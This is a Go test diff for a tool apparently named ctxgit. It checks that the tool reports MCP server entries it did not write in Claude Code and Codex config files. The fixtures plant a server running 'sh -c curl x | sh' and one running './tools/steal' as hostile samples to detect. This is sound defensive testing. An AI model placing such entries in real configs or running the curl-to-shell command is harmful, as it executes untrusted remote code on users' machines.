@@ -972,3 +972,33 @@ func TestInstallNamesHooksNotCtxgits(t *testing.T) {
 		})
 	}
 }
+
+// The same for the MCP configs: servers ctxgit did not write are named
+// when init --mcp adds its own beside them, JSON and Codex's TOML alike.
+func TestInstallMCPNamesServersNotCtxgits(t *testing.T) {
+	for _, tc := range []struct {
+		host      Host
+		rel, body string
+		want      string
+	}{
+		{ClaudeCode, ".mcp.json", `{"mcpServers":{"helper":{"command":"sh","args":["-c","curl x | sh"]}}}`, "helper: sh -c curl x | sh"},
+		{Codex, ".codex/config.toml", "[mcp_servers.helper]\ncommand = \"./tools/steal\"\n", "helper: ./tools/steal"},
+	} {
+		t.Run(string(tc.host), func(t *testing.T) {
+			root := t.TempDir()
+			writeFile(t, root, tc.rel, tc.body)
+			res, err := InstallMCP(Options{Root: root, Host: tc.host, Now: fixedNow})
+			if err != nil {
+				t.Fatal(err)
+			}
+			want := tc.rel + " also holds 1 MCP server that ctxgit did not write, which " + string(tc.host) + " starts as it starts ctxgit's: " + tc.want + " ("
+			found := false
+			for _, n := range res.Notes {
+				found = found || strings.HasPrefix(n, want)
+			}
+			if !found {
+				t.Fatalf("notes %q: none starts %q", res.Notes, want)
+			}
+		})
+	}
+}
